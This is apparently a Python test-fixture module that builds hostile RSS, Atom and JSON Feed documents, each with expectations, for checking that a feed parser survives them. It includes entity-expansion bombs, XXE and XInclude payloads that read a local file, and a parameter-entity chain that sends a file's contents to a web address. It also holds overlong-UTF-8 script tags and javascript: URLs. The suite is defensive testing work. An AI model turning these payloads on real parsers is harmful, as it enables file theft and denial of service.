"""Hostile XML and JSON: documents with their number, name and expectations (kinds 51 to 73)."""

import json
import unicodedata

from expectations import (
    addresses_are_inert, ends, field, has_defect, holds, ids, is_feed, is_no_feed, item_count, lacks, no_control_characters,
    output_at_most, text_length, titles)

MEGABYTE = 1 << 20


def rss(items, prolog="", attributes=""):
    return (f'{prolog}<rss version="2.0"{attributes}><channel><title>Harbour</title>'
            f"<link>https://harbour.example/</link>{items}</channel></rss>").encode()


def item(content, guid="https://harbour.example/1"):
    return f"<item><title>Kept</title><guid>{guid}</guid>{content}</item>"


def documents(trap):
    for kind in (
        entities(), external(trap), nesting(), attributes(), large_values(), many_entries(), cuts(), characters(),
        encodings(), bare_markup(), sections(), prologs(), not_feeds(), json_feeds(), identifiers(), dates(),
    ):
        yield from kind


def entities():
    levels = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 11))
    laughs = f'<!DOCTYPE rss [<!ENTITY e0 "ha">{levels}]>'
    small = [is_feed(), item_count(1), output_at_most(3 * MEGABYTE)]
    yield 51, "ten levels of entities, in a title", rss(item("<description>A &e10; B</description>"), laughs), [*small, holds("summary", "A", "B")]
    yield 51, "ten levels of entities, in an attribute", rss(item('<enclosure url="https://harbour.example/&e10;.mp3"/>'), laughs), small
    yield 51, "ten levels of parameter entities", rss(item(""), '<!DOCTYPE rss [<!ENTITY % p0 "x">'
        + "".join(f'<!ENTITY % p{level} "{f"%p{level - 1};" * 10}">' for level in range(1, 10)) + "%p9;]>"), [*small, titles("Kept")]
    yield 51, "an entity that is itself", rss(item("<description>A &loop; B</description>"), '<!DOCTYPE rss [<!ENTITY loop "x &loop; y">]>'), [*small, holds("summary", "A", "B")]
    for length, uses in ((60_000, 8_000), (1_000, 400_000), (250, 100_000)):
        prolog = f'<!DOCTYPE rss [<!ENTITY long "{"x" * length}">]>'
        yield 52, f"an entity of {length} bytes used {uses} times", rss(item(f"<description>A {'&long;' * uses} B</description>"), prolog), [
            is_feed(), item_count(1), holds("summary", "A", "B"), output_at_most(4 * MEGABYTE + 6 * uses)]
    yield 52, "a long entity in 50,000 entries", rss("<item><title>A &long; B</title></item>" * 50_000, f'<!DOCTYPE rss [<!ENTITY long "{"x" * 2000}">]>'), [
        is_feed(), item_count(50_000), output_at_most(16 * MEGABYTE)]


def external(trap):
    file, web = trap.file.as_uri(), trap.address
    silent = [is_feed(), item_count(1), titles("Kept")]
    for name, address in (("file", file), ("http", web + "/entity"), ("ftp", web.replace("http", "ftp")), ("relative", "canary")):
        prolog = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{address}">]>'
        yield 53, f"an external entity of {name}", rss(item("<description>A &x; B</description>"), prolog), [*silent, holds("summary", "A", "B")]
        yield 53, f"an external entity of {name}, in UTF-16", rss(item("<description>A &x; B</description>"), prolog).decode().encode("utf-16"), [*silent, holds("summary", "A", "B")]
    yield 53, "an external parameter entity", rss(item(""), f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{web}/p">%p;<!ENTITY % q SYSTEM "{file}">%q;]>'), silent
    yield 53, "a parameter entity that carries a file away", rss(item("<description>A &send; B</description>"),
        f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "{file}"><!ENTITY % d "<!ENTITY send SYSTEM \'{web}/?%f;\'>">%d;]>'), [*silent, holds("summary", "A", "B")]
    yield 53, "a document type within UTF-7", rss(item(""), '<?xml version="1.0" encoding="UTF-7"?>').replace(
        b"<rss", f'+ADwAIQ-DOCTYPE rss [+ADwAIQ-ENTITY x SYSTEM "{file}">]><rss'.encode()), [ends(), lacks("canary-sang")]
    yield 53, "a style sheet", rss(item(""), f'<?xml version="1.0"?><?xml-stylesheet href="{web}/s.xsl" type="text/xsl"?>'), silent
    yield 53, "a schema's address", rss(item(""), attributes=f' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x {web}/s.xsd"'), silent
    yield 54, "an external document type", rss(item(""), f'<!DOCTYPE rss SYSTEM "{web}/rss.dtd">'), silent
    yield 54, "a public document type", rss(item(""), f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{web}/rss.dtd">'), silent
    yield 54, "an external document type of a file", rss(item(""), f'<!DOCTYPE rss SYSTEM "{file}" [<!ELEMENT rss ANY>]>'), silent
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'
    yield 55, "an inclusion of a file", rss(item(f"<description>A {include} B</description>")), [*silent, holds("summary", "A", "B")]
    yield 55, "an inclusion of an address", rss(item(include.replace(file, web + "/include"))), silent


def nesting():
    bounded = [is_feed(), item_count(1), titles("Kept"), output_at_most(20 * MEGABYTE)]
    count = 200_000
    for name in ("div", "x:y", "rss", "channel", "textInput"):
        yield 56, f"200,000 nested <{name}>", rss(item(f"<description>A {f'<{name}>' * count} B</description>")), [*bounded, has_defect("limit", "malformed", "truncated")]
    yield 56, "200,000 nested and closed <div>", rss(item(f"<description>A {'<div>' * count}B{'</div>' * count} C</description>")), bounded
    yield 56, "200,000 unknown elements around an item", rss("<a>" * count + item("") + "</a>" * count), [is_feed(), has_defect("limit")]
    yield 56, "200,000 nested items", rss(item("") + "<item>" * count), [is_feed(), has_defect("limit", "malformed", "truncated")]
    yield 56, "200,000 nested elements of XHTML", ('<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>Kept</title><content type="xhtml">'
        + "<div>" * count + "A" + "</div>" * count + "</content></entry></feed>").encode(), [is_feed(), item_count(1), titles("Kept")]
    yield 56, "200,000 nested <div> of HTML", rss(item(f"<description><![CDATA[A {'<div>' * count} B]]></description>")), [*bounded, holds("summary", "A", "B")]
    yield 56, "200,000 nested <b> and <p> of HTML", rss(item(f"<description><![CDATA[A {'<b><p>' * count} B]]></description>")), [*bounded, holds("summary", "A", "B")]
    yield 56, "200,000 nested tables of HTML", rss(item(f"<description><![CDATA[A {'<table><tr><td>' * (count // 3)} B]]></description>")), [*bounded, holds("summary", "A", "B")]


def attributes():
    kept = [is_feed(), item_count(1), titles("Kept")]
    forty = " ".join(f"a{number}='x'" for number in range(40_000))
    yield 57, "40,000 attributes on an unknown tag", rss(item(f"<x {forty}/><author>B</author>")), [*kept, field("authors", [{"name": "B"}]), has_defect("limit")]
    yield 57, "40,000 attributes on an enclosure", rss(item(f"<enclosure url='https://harbour.example/a.mp3' {forty}/><author>B</author>")), [*kept, field("authors", [{"name": "B"}]), has_defect("limit")]
    yield 57, "40,000 attributes of one name", rss(item("<x " + "a='' " * 40_000 + "/>")), kept
    yield 57, "40,000 attributes on a tag of HTML", rss(item(f"<description><![CDATA[A <p {forty}>B</p> C]]></description>")), [*kept, holds("summary", "A", "B", "C")]
    yield 57, "40,000 attributes without values", rss(item("<x " + " ".join(f"a{number}" for number in range(40_000)) + "/>")), kept
    spaces = " ".join(f"xmlns:p{number}='urn:{number}'" for number in range(100_000))
    yield 58, "100,000 namespaces on one tag", rss(item(f"<x {spaces}/>")), [*kept, has_defect("limit")]
    yield 58, "100,000 namespaces on the root", rss(item(""), attributes=" " + spaces), [ends()]
    nested = "".join("<a" + "".join(f" xmlns:p{depth}x{number}='urn:{depth}:{number}'" for number in range(50)) + ">" for depth in range(2000))
    yield 58, "100,000 namespaces on 2,000 nested tags", rss(item(f"<description>{nested}</description>")), [*kept, has_defect("limit")]
    yield 58, "100,000 namespaces on 100,000 tags", rss(item("".join(f"<p{number}:a xmlns:p{number}='urn:{number}'/>" for number in range(100_000)))), kept
    defaults = "".join(f"<!ATTLIST item a{number} CDATA 'x'>" for number in range(20_000))
    yield 59, "20,000 attributes by default", rss(item("") + "<item/>" * 2000, f"<!DOCTYPE rss [{defaults}]>"), [is_feed(), field("title", "Kept"), output_at_most(MEGABYTE)]
    long = "x" * 100_000
    yield 59, "a long attribute by default on 10,000 tags", rss(item("") + "<item/>" * 10_000, f"<!DOCTYPE rss [<!ATTLIST item a CDATA '{long}'>]>"), [is_feed(), output_at_most(MEGABYTE)]


def large_values():
    kept = [is_feed(), item_count(1), field("title", "Kept")]
    author = field("authors", [{"name": "B"}])
    yield 60, "an attribute of 20 MB", lambda: rss(item(f"<enclosure url='/{'x' * (20 * MEGABYTE)}'/><author>B</author>")), [*kept, author, has_defect("limit")]
    yield 60, "an attribute of 20 MB in HTML", lambda: rss(item(f"<description><![CDATA[A <p title='{'x' * (20 * MEGABYTE)}'>B</p> C]]></description><author>B</author>")), [*kept, author]
    for name, head, tail in (("text", "", ""), ("CDATA", "<![CDATA[", "]]>")):
        yield 60, f"a description of 30 MB of {name}", lambda head=head, tail=tail: rss(item(
            f"<description>{head}{'text of many words ' * (30 * MEGABYTE // 19)}{tail}</description><author>B</author>")), [*kept, author]
        yield 60, f"a content of 15 MB of HTML in {name}", lambda head=head, tail=tail: rss(item(
            "<description>" + head + ("<p>text <b>of</b> many words</p>" if head else "&lt;p&gt;text &lt;b&gt;of&lt;/b&gt; many words&lt;/p&gt;") * (15 * MEGABYTE // (34 if head else 56))
            + tail + "</description><author>B</author>")), [*kept, author]
    yield 60, "a title of 30 MB", lambda: rss(f"<item><title>{'word ' * (6 * MEGABYTE)}</title><guid>g</guid></item>"), [is_feed(), ids("g")]
    yield 60, "references of 30 MB", lambda: rss(item(f"<description>A {'&amp;' * (6 * MEGABYTE)} B</description><author>B</author>")), [*kept, author]
    yield 60, "bare ampersands of 10 MB", lambda: rss(item(f"<description>A {'& ' * (5 * MEGABYTE)} B</description><author>B</author>")), [*kept, author]
    yield 60, "a name of 9 MB", lambda: rss(item(f"<{'n' * (9 * MEGABYTE)}/><author>B</author>")), [*kept, author, has_defect("limit")]
    yield 60, "an attribute's name of 9 MB", lambda: rss(item(f"<x {'n' * (9 * MEGABYTE)}='1'/><author>B</author>")), [*kept, author, has_defect("limit")]
    yield 60, "a million processing instructions", lambda: rss(item(f"<description>A{'<?p x?>' * 1_000_000} B</description>")), [*kept, holds("summary", "A", "B")]
    yield 60, "a million comments", lambda: rss(item(f"<description>A{'<!--x-->' * 1_000_000} B</description>")), [*kept, holds("summary", "A", "B")]
    yield 60, "a million sections of CDATA", lambda: rss(item(f"<description>A{'<![CDATA[x]]>' * 1_000_000} B</description>")), [*kept, text_length("summary", 1_000_003, 1_000_003)]
    yield 60, "20 MB of white space", lambda: rss(item("") + " \n" * (10 * MEGABYTE)), kept
    yield 60, "a million names", lambda: rss(item("".join(f"<n{number} a{number}='1'/>" for number in range(1_000_000)))), kept


def many_entries():
    entry = "<item><title>A story</title><guid>{}</guid></item>"
    yield 61, "a million items", lambda: rss("".join(entry.format(number) for number in range(1_000_000))), [is_feed(), has_defect("limit"), item_count(100_000, 1_000_000)]
    yield 61, "a million entries of Atom", lambda: ('<feed xmlns="http://www.w3.org/2005/Atom">' + "<entry><id>1</id></entry>" * 1_000_000 + "</feed>").encode(), [is_feed(), has_defect("limit"), item_count(100_000, 1_000_000)]
    yield 61, "a million items that never end", lambda: rss("<item><title>A story</title>" * 1_000_000), [is_feed(), has_defect("limit"), item_count(100_000, 1_000_000), has_defect("malformed")]
    yield 61, "a million empty items", lambda: rss("<item/>" * 1_000_000), [is_feed(), has_defect("limit"), item_count(100_000, 1_000_000)]
    yield 61, "a million items of JSON", lambda: ('{"version":"https://jsonfeed.org/version/1.1","title":"T","items":[' + ",".join('{"id":"%d"}' % number for number in range(1_000_000)) + "]}").encode(), [is_feed(), has_defect("limit"), item_count(100_000, 1_000_000)]
    yield 61, "300,000 categories", lambda: rss(item("".join(f"<category>c{number}</category>" for number in range(300_000)))), [is_feed(), titles("Kept"), has_defect("limit")]
    yield 61, "300,000 links", lambda: rss(item("<link>https://harbour.example/a</link>" * 300_000)), [is_feed(), titles("Kept"), has_defect("limit")]
    yield 61, "300,000 thumbnails", lambda: rss(item("<media:thumbnail url='https://harbour.example/a'/>" * 300_000)), [is_feed(), titles("Kept"), output_at_most(20 * MEGABYTE)]
    yield 61, "300,000 media contents", lambda: rss(item("<media:content url='https://harbour.example/a'/>" * 300_000)), [is_feed(), titles("Kept"), output_at_most(20 * MEGABYTE)]
    yield 61, "300,000 dates that are none", lambda: rss(item("<pubDate>the day after</pubDate>" * 300_000)), [is_feed(), titles("Kept"), has_defect("date")]
    yield 62, "200,000 xml:id", rss(item("".join(f"<x xml:id='i{number}'/>" for number in range(200_000)))), [is_feed(), titles("Kept")]
    yield 62, "200,000 equal xml:id", rss(item("<x xml:id='i'/>" * 200_000)), [is_feed(), titles("Kept")]


def cuts():
    """A whole document that ends early: the items before stay, the open one is kept with a defect."""
    first = item("<description>First words</description>")
    second = '<item><title>The half title</title><guid>2</guid><description><![CDATA[Some <b>bold</b> words]]></description><enclosure url="https://harbour.example/2.mp3"/></item>'
    whole = rss(first + second).decode()
    start = whole.index(second)
    for name, mark in (
        ("a tag's name", "<tit"), ("a title", "The half"), ("an end tag", "The half title</ti"), ("a guid", "<guid>2"),
        ("a CDATA section", "[Some <b>bo"), ("a CDATA section's end", "words]]"), ("an attribute", 'url="https://harb'),
        ("an end tag of the item", "</ite"),
    ):
        end = whole.index(mark, start) + len(mark)
        yield 63, f"cut in {name}", whole[:end].encode(), [is_feed(), item_count(1, 2), field("title", "Kept"), field("summary", "First words"), has_defect("truncated")]
    yield 63, "cut before the item", whole[:start].encode(), [is_feed(), titles("Kept"), has_defect("truncated")]
    yield 63, "cut in a character of three bytes", rss(first + "<item><title>Ende €").split("€".encode())[0] + b"\xe2\x82", [is_feed(), field("title", "Kept"), has_defect("truncated")]
    yield 63, "cut within the root", b'<?xml version="1.0"?><rss vers', [ends()]


def characters():
    kept = [is_feed(), no_control_characters()]
    yield 64, "NUL in a text", rss("<item><title>Be\0fore</title><guid>a\0b</guid></item>" + item("")), [*kept, titles("Before", "Kept"), has_defect("forbiddenCharacters")]
    yield 64, "NUL before the declaration and in tags", b"\0\0" + rss("<item><tit\0le>A</title></item>" + item(""), '<?xml version="1.0"?>'), [*kept, field("title", "Kept", 1)]
    yield 64, "NUL by reference", rss("<item><title>A&#0;B &#x0;C</title></item>"), [*kept, titles("AB C")]
    yield 64, "a megabyte of NUL", rss(item("<description>A" + "\0" * MEGABYTE + " B</description>")), [*kept, holds("summary", "A", "B")]
    yield 65, "escape sequences in a title", rss("<item><title>Red \x1b[31malert\x1b[0m \x1b]0;title\x07 end</title></item>"), [*kept, lacks("\\u001b", "\\u0007"), holds("title", "Red", "end")]
    yield 65, "every control character", rss("<item><title>A" + "".join(map(chr, [*range(1, 9), *range(14, 32)])) + "B</title></item>"), [*kept, titles("AB")]
    yield 65, "every control character by reference", rss("<item><title>A" + "".join(f"&#{code};" for code in [*range(1, 9), *range(14, 32), 0xFFFE, 0xFFFF, 0xD800, 0x110000, 99999999999]) + "B</title></item>"), [*kept, holds("title", "AB")]


def encodings():
    text = "<item><title>Grüße aus Łódź und 東京 🚢</title></item>"
    kept = [is_feed(), titles("Grüße aus Łódź und 東京 🚢")]
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        yield 66, f"{encoding} without its mark", rss(text).decode().encode(encoding), kept
        yield 66, f"{encoding} declared as utf-8", rss(text, '<?xml version="1.0" encoding="utf-8"?>').decode().encode(encoding), kept
    for label in ("utf-16", "us-ascii", "windows-1252", "iso-8859-1", "x-unknown", "utf-7", "ebcdic-cp-us", "gb2312", "a" * 5000):
        yield 66, f"UTF-8 declared as {label[:20]}", rss(text, f'<?xml version="1.0" encoding="{label}"?>'), kept
    for name, content in (
        ("a lone byte", b"\xe9"), ("an overlong slash", b"\xc0\xaf"), ("an overlong tag", b"\xc0\xbcscript\xc0\xbe"), ("an overlong NUL", b"\xe0\x80\x80"),
        ("a surrogate", b"\xed\xa0\x80"), ("a pair of surrogates", b"\xed\xa0\xbd\xed\xb8\x80"), ("beyond Unicode", b"\xf4\x90\x80\x80"),
        ("five bytes", b"\xf8\x88\x80\x80\x80"), ("a start without its end", b"\xe2\x82"),
    ):
        yield 66, f"invalid UTF-8: {name}", rss("<item><title>Word X word</title></item>" + item("")).replace(b"X", content), [
            is_feed(), item_count(2), holds("title", "Word", "word"), field("title", "Kept", 1), lacks("<script"), has_defect("encoding")]
    yield 66, "invalid UTF-8 of 10 MB", lambda: rss(item("<description>A X B</description>")).replace(b"X", b"\xe9\xff" * (5 * MEGABYTE)), [is_feed(), field("title", "Kept")]
    yield 66, "UTF-7 is not decoded", rss("<item><title>A +ADw-script+AD4- B</title></item>", '<?xml version="1.0" encoding="utf-7"?>'), [is_feed(), titles("A +ADw-script+AD4- B")]
    yield 66, "windows-1252 posing as latin-1", rss("<item><title>“quoted” – €</title></item>", '<?xml version="1.0" encoding="iso-8859-1"?>').decode().encode("cp1252"), [is_feed(), titles("“quoted” – €")]
    yield 66, "Shift_JIS declared as utf-8", rss("<item><title>A</title><description>東京の港に船が着いた。雨の朝、鐘が鳴る。</description></item>", '<?xml version="1.0" encoding="utf-8"?>').decode().encode("shift_jis"), [is_feed(), titles("A")]


def bare_markup():
    for source, wanted in (
        ("AT&T &nbsp; ©", "AT&T \u00a0 ©"), ("Tom & Jerry", "Tom & Jerry"), ("D&D rocks; Q&A", "D&D rocks; Q&A"), ("A &amp B", "A &amp B"),
        ("A&nbsp;B", "A\u00a0B"), ("A &undeclared; B", "A &undeclared; B"), ("A &; B", "A &; B"), ("A &#B &#x C", "A &#B &#x C"),
        ("I <3 you", "I <3 you"), ("a < b and c > d", "a < b and c > d"), ("1&2&3", "1&2&3"), ("&amp;&hellip;&mdash;", "&…—"),
        ("A&#38;B &#x26;C", "A&B &C"),
    ):
        yield 67, f"text: {source}", rss(f"<item><title>{source}</title><guid>1</guid></item>" + item("")), [is_feed(), titles(wanted, "Kept"), ids("1", "https://harbour.example/1")]
    yield 67, "a bare & in an attribute", rss(item("<enclosure url='https://harbour.example/?a=1&b=2&copy=3' type='x'/>")), [is_feed(), field("enclosures", [{"url": "https://harbour.example/?a=1&b=2&copy=3", "type": "x"}])]
    yield 67, "a bare & in a link", rss(item("<link>https://harbour.example/?a=1&b=2</link>")), [is_feed(), field("link", "https://harbour.example/?a=1&b=2")]
    yield 67, "a million bare <", lambda: rss(item(f"<description>A {'< ' * 1_000_000} B</description>")), [is_feed(), titles("Kept"), text_length("summary", 1_000_000, 8_000_000)]


def sections():
    for name, source, wanted in (
        ("]]> in text", "A ]]> B", "A ]]> B"), ("a section within a section", "<![CDATA[A <![CDATA[ B ]]> C", "A <![CDATA[ B  C"),
        ("a section cut in two", "<![CDATA[A ]]]]><![CDATA[> B]]>", "A ]]> B"), ("two ends", "<![CDATA[A]]> ]]> B", "A ]]> B"),
        ("an end without its start", "A]]>B", "A]]>B"), ("an escaped section", "&lt;![CDATA[A]]&gt;", None),
    ):
        document = rss(f"<item><title>{source}</title><guid>1</guid></item>" + item(""))
        yield 68, name, document, [is_feed(), item_count(2), field("id", "1"), field("title", "Kept", 1), *([field("title", wanted)] if wanted else [])]
    yield 68, "a section that never ends", rss("<item><title>A</title><description><![CDATA[ B</description></item>" + item("")), [is_feed(), field("title", "A"), has_defect("malformed", "truncated")]
    yield 68, "a million ]]", lambda: rss(item(f"<description><![CDATA[A {']]' * 1_000_000} B]]></description>")), [is_feed(), titles("Kept"), holds("summary", "A", "B")]


def prologs():
    declaration = '<?xml version="1.0" encoding="utf-8"?>'
    for name, prolog in (
        ("white space", " \n\t\r\n"), ("a byte order mark", "\ufeff"), ("a mark and a line", "\ufeff\n"), ("three marks", "\ufeff\ufeff\ufeff"),
        ("a comment", "<!-- made by hand -->"), ("a warning of PHP", "<br />\n<b>Warning</b>: something in <b>file.php</b><br />\n"),
        ("words", "Cannot connect. "), ("a megabyte of white space", " " * MEGABYTE),
    ):
        yield 69, f"{name} before the declaration", rss(item(""), prolog + declaration), [is_feed(), titles("Kept")]
    yield 69, "two declarations", rss(item(""), declaration * 2), [is_feed(), titles("Kept")]


def not_feeds():
    page = b"<!DOCTYPE html><html><head><title>Sign in</title></head><body><p>item</p><div>" + b"<p>x</p>" * 1000 + b"</div></body></html>"
    yield 70, "an HTML page", page, [is_no_feed("page")]
    yield 70, "an HTML page without its declaration", page[15:], [is_no_feed("page")]
    yield 70, "an HTML page that speaks of feeds", page.replace(b"item", b"&lt;rss&gt;&lt;item&gt;"), [is_no_feed("page")]
    yield 70, "a page that asks for proof", page.replace(b"Sign in", b"Just a moment..."), [is_no_feed("human")]
    yield 70, "20 MB of a page", lambda: page * 2400, [is_no_feed("page")]
    yield 70, "an empty document", b"", [is_no_feed("empty")]
    yield 70, "white space", b" \n" * 1000, [is_no_feed("empty")]
    yield 70, "text", b"Not found", [is_no_feed("text")]
    yield 70, "an image", b"\x89PNG\r\n\x1a\n" + b"\0" * 1000, [is_no_feed("image")]
    yield 70, "other XML", b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><path/></svg>", [is_no_feed("svg", "SVG")]
    yield 70, "20 MB of random bytes", lambda: bytes((number * number >> 3) & 255 for number in range(1 << 16)) * 320, [is_no_feed("binary", "text", "XML", "mark-up")]


def json_feeds():
    version = '"version":"https://jsonfeed.org/version/1.1"'
    depth = 100_000
    yield 71, "100,000 nested arrays", f'{{{version},"title":"T","items":{"[" * depth}'.encode(), [is_no_feed("JSON", "nested", "deep")]
    yield 71, "100,000 nested arrays that end", f'{{{version},"title":"T","x":{"[" * depth}{"]" * depth},"items":[{{"id":"1"}}]}}'.encode(), [ends()]
    yield 71, "100,000 nested objects", f'{{{version},"items":[{{"id":"1","x":'.encode() + b'{"a":' * depth, [ends()]
    yield 71, "equal keys", f'{{{version},"title":"One","title":"Two","items":[{{"id":"1","id":"2","title":"A"}}],"items":[]}}'.encode(), [is_feed(), item_count(1), field("id", "1")]
    for number in ("1e999", "-1e999", "1e-999", "9" * 400, "0.1", "-0"):
        yield 71, f"the number {number[:20]} as an id", f'{{{version},"items":[{{"id":{number},"title":"A"}}]}}'.encode(), [is_feed(), titles("A")]
    yield 71, "numbers and nulls in place of texts", f'{{{version},"title":1,"items":[{{"id":null,"title":[1],"url":{{}},"content_html":true,"date_published":1e999,"tags":"x","authors":7}},{{"id":"2"}},null,3,"x"]}}'.encode(), [is_feed(), lacks("1e999")]
    yield 71, "a lone surrogate by escape", f'{{{version},"items":[{{"id":"1","title":"A \\ud800 B"}}]}}'.encode(), [is_feed(), holds("title", "A", "B")]
    yield 71, "NUL and ESC by escape", f'{{{version},"items":[{{"id":"1","title":"A\\u0000 \\u001b[31m B"}}]}}'.encode(), [is_feed(), no_control_characters(), item_count(1)]
    yield 71, "a million equal keys", lambda: (f"{{{version}," + '"x":1,' * 1_000_000 + '"items":[{"id":"1"}]}').encode(), [ends()]
    yield 71, "a text of 30 MB", lambda: f'{{{version},"items":[{{"id":"1","title":"A","content_text":"{"text of many words " * (30 * MEGABYTE // 19)}"}}]}}'.encode(), [is_feed(), titles("A")]
    yield 71, "JSON that is cut", f'{{{version},"items":[{{"id":"1","title":"A"}},{{"id":"2","ti'.encode(), [ends()]
    yield 71, "JSON of an error", b'{"error":"not found","status":404}', [is_no_feed("JSON")]
    yield 71, "JSON with addresses that run", json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "1", "url": "javascript:alert(1)", "image": "data:text/html,x", "external_url": "vbscript:x", "attachments": [{"url": " java\tscript:x"}]}]}).encode(), [is_feed(), addresses_are_inert()]


def identifiers():
    yield 72, "no guid, link or date", rss("<item><title>A</title></item><item><title>B</title></item><item><description>C</description></item>"), [is_feed(), item_count(3)]
    yield 72, "nothing at all", rss("<item/><item></item>"), [is_feed(), item_count(2)]
    yield 72, "one guid on all items", rss("".join(f"<item><title>{number}</title><guid>same</guid><link>https://harbour.example/{number}</link></item>" for number in range(3))), [is_feed(), titles("0", "1", "2")]
    yield 72, "a guid of 1 MB", rss(f"<item><title>A</title><guid>{'g' * MEGABYTE}</guid></item>" + item("")), [is_feed(), titles("A", "Kept")]
    yield 72, "a guid of 1 MB on each of 20 items", rss(f"<item><title>A</title><guid>{'g' * MEGABYTE}</guid></item>" * 20), [is_feed(), item_count(20)]
    composed, decomposed = "caf\u00e9", unicodedata.normalize("NFD", "caf\u00e9")
    yield 72, "guids that differ by NUL, space or composition", rss("".join(f"<item><title>{place}</title><guid>{guid}</guid></item>" for place, guid in enumerate(["a", "a\0", " a ", "a b", "a  b", composed, decomposed]))), [
        is_feed(), titles(*"0123456"), ids("a", "a", "a", "a b", "a  b", composed, decomposed)]


def dates():
    for source, wanted in (
        ("Mon, 30 Feb 2026 10:00:00 GMT", None), ("0000-00-00T00:00:00Z", None), ("Wed, 31 Dec 0000 00:00:00 GMT", None), ("10000-01-01T00:00:00Z", None),
        ("2026-02-30", None), ("2026-13-01T00:00:00Z", None), ("99999999999999999999", None), ("Fri, 01 Jan 99 00:00:00 GMT", "1999-01-01T00:00:00.000Z"),
        ("Tue, 03 Mar 26 10:00:00 GMT", "2026-03-03T10:00:00.000Z"), ("Sat, 31 Dec 2016 23:59:60 GMT", "2017-01-01T00:00:00.000Z"),
        ("2026-11-02T24:00:00Z", "2026-11-03T00:00:00.000Z"), ("Mon, 02 Nov 2026 10:00:00 EST", "2026-11-02T15:00:00.000Z"), ("Mon, 02 Nov 2026 10:00:00 +0530", "2026-11-02T04:30:00.000Z"),
        ("2026-11-02T10:00:00-11:00", "2026-11-02T21:00:00.000Z"), ("Mon, 02 Nov 2026 10:00:00 +9999", ...), ("2026-11-02T10:00:00.123456789123456789Z", ...), ("9" * 100_000, None), ("-1", None),
    ):
        checks = [is_feed(), titles("Kept")]
        if wanted is not ...:
            checks.append(field("published", wanted))
        yield 73, f"the date {source[:40]}", rss(item(f"<pubDate>{source}</pubDate>")), checks
